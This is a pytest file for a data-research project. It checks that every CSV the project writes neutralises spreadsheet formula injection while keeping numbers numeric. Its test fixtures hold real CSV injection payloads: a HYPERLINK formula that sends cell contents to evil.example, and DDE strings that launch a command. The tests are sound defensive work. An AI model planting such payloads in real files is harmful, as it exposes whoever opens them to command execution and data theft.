"""No CSV the project writes holds a text cell that a spreadsheet would run as a formula; numbers stay
numbers. (The notebooks' own CSVs, tables/*.csv, niches.csv, quarantine files and the report's
downloads, are walked in tests/report/test_notebooks.py on a hostile world.)"""

from __future__ import annotations

import base64
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from csv_checks import assert_no_formula_cells, formula_cells

from inflresearch.cli import main
from inflresearch.data.aggregate import aggregate_posts, write_accounts
from inflresearch.report.display import TableSaver
from inflresearch.report.tables import csv_link
from inflresearch.safe_csv import neutralise, save_csv, to_csv_text

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_trigger_is_prefixed_and_reads_back_as_the_original_text() -> None:
    frame = pd.DataFrame({"account_id": PAYLOADS, "n": range(len(PAYLOADS))})
    text = to_csv_text(frame)
    assert formula_cells(text) == []
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert back["account_id"].tolist() == ["'" + p.replace("\r", "\n") for p in PAYLOADS]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    text = to_csv_text(pd.DataFrame({"caption": ["nice\r=HYPERLINK(1)", "ok"], "likes": [1, 2]}))
    assert formula_cells(text) == [] and len(pd.read_csv(io.StringIO(text))) == 2


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"followers": [-5.0, 1.5e12, float("nan")], "delta": [-1, 2, 3],
                          "raw": ["-5", "+1.5e3", "-0.25%"], "when": pd.to_datetime(["2024-01-01"] * 3)})
    out = neutralise(frame)
    assert out["followers"].dtype == "float64" and out["delta"].dtype == frame["delta"].dtype
    assert out["raw"].tolist() == ["-5", "+1.5e3", "-0.25%"]
    assert to_csv_text(frame).splitlines()[1].startswith("-5.0,-1,-5,")


def test_safe_text_and_missing_values_are_untouched() -> None:
    frame = pd.DataFrame({"bio": ["a - b", "mail me @ x", None, "", "'=already"],
                          "niche": pd.Categorical(["=x", "ok", "ok", "ok", "ok"])})
    out = neutralise(frame)
    assert out["bio"].tolist()[:2] == ["a - b", "mail me @ x"] and pd.isna(out["bio"].iloc[2])
    assert out["bio"].iloc[4] == "'=already" and out["niche"].tolist()[0] == "'=x"


def test_hostile_headers_are_neutralised() -> None:
    assert formula_cells(to_csv_text(pd.DataFrame({"=cmd()": [1], "@x": ["y"]}))) == []


def _hostile_export(folder: Path) -> Path:
    rows = ["handle,followers,avg_likes,niche"]
    rows += [f'"{p.replace(chr(34), chr(34) * 2)}",{1000 + i},10,"{p.replace(chr(34), chr(34) * 2)}"'
             for i, p in enumerate(PAYLOADS)]
    rows += ['"=bad()",-5,10,"=x"', '"+bad",,10,"@y"', "ok,2000,10,-travel"]  # quarantined, and good
    path = folder / "export.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_validate_writes_a_quarantine_file_without_formulas(tmp_path: Path) -> None:
    export = _hostile_export(tmp_path)
    out = tmp_path / "check"
    code = main(["validate", str(export), "--table", "influencers", "--column", "handle=account_id",
                 "--quarantine-dir", str(out)])
    assert code == 0
    written = out / "quarantine-influencers.csv"
    text = written.read_text()
    assert "'=bad()" in text and "'+bad" in text and ",-5," in text  # -5 stays a number
    assert assert_no_formula_cells(out) == 1


def test_report_tables_and_downloads_are_neutralised(tmp_path: Path) -> None:
    frame = pd.DataFrame({"account_id": PAYLOADS, "elasticity": [-0.5] * len(PAYLOADS)})
    frame.attrs["name"] = "accounts"
    page = TableSaver(tmp_path)(frame)
    (tmp_path / "report.html").write_text(page + csv_link(frame, "again"))
    save_csv(frame, tmp_path / "niches.csv")
    assert assert_no_formula_cells(tmp_path) == 4  # tables/table-01, niches.csv, two downloads
    payload = re.search(r"base64,([^\"]+)", page)
    assert payload and "-0.5" in base64.b64decode(payload.group(1)).decode()


def test_a_csv_is_never_written_over(tmp_path: Path) -> None:
    save_csv(pd.DataFrame({"a": [1]}), tmp_path / "niches.csv")
    with pytest.raises(FileExistsError):
        save_csv(pd.DataFrame({"a": [2]}), tmp_path / "niches.csv")
    assert (tmp_path / "niches.csv").read_text() == "a\n1\n"


def test_aggregate_writes_accounts_and_quarantine_without_formulas(tmp_path: Path) -> None:
    posts = pd.DataFrame({"account_id": PAYLOADS + ["=dup"], "post_id": [str(i) for i in range(6)] + ["0"],
                          "likes": [1.0] * 7, "caption": PAYLOADS + ["x"]})
    result = aggregate_posts(posts)
    write_accounts(result.accounts, tmp_path / "accounts.csv")
    main_out = tmp_path / "q"
    from inflresearch.data.aggregate import write_posts_quarantine

    assert write_posts_quarantine(result, main_out) is not None
    assert assert_no_formula_cells(tmp_path) == 2
